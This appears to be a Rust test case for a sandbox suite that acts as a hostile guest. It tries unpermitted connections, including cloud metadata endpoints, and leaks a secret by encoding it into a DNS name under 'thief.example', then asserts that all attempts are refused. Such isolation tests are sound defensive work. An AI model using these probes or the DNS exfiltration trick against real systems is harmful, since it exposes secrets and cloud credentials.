//! The attack: one name at one port is granted, and it tries everything else.

use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

use hostile_guests::{Failure, Source};

impl Source for Attack {
    fn check(secret: &str) -> Result<(), Failure> {
        let encoded: String = secret.bytes().take(30).map(|byte| format!("{byte:02x}")).collect();
        let carried = format!("{encoded}.thief.example:80");
        let connects = [
            "127.0.0.1:80",
            "localhost:80",
            "[::1]:80",
            "0.0.0.0:80",
            "169.254.169.254:80",
            "metadata.google.internal:80",
            "granted.example:80",
            "127.0.0.1:9",
            &carried,
        ];
        let mut tried: Vec<(String, Result<(), std::io::ErrorKind>)> = connects
            .into_iter()
            .map(|to| (to.to_owned(), TcpStream::connect(to).map(drop).map_err(|e| e.kind())))
            .collect();
        let looked_up = carried.to_socket_addrs().map(drop);
        tried.push(("a name that carries data".to_owned(), looked_up.map_err(|e| e.kind())));
        let listens = TcpListener::bind("127.0.0.1:0").map(drop);
        tried.push(("a server".to_owned(), listens.map_err(|e| e.kind())));
        let datagram = UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"x", "127.0.0.1:53"));
        tried.push(("a datagram".to_owned(), datagram.map(drop).map_err(|e| e.kind())));
        hostile_guests::all_refused(tried)
    }
}

hostile_guests::source!(Attack);
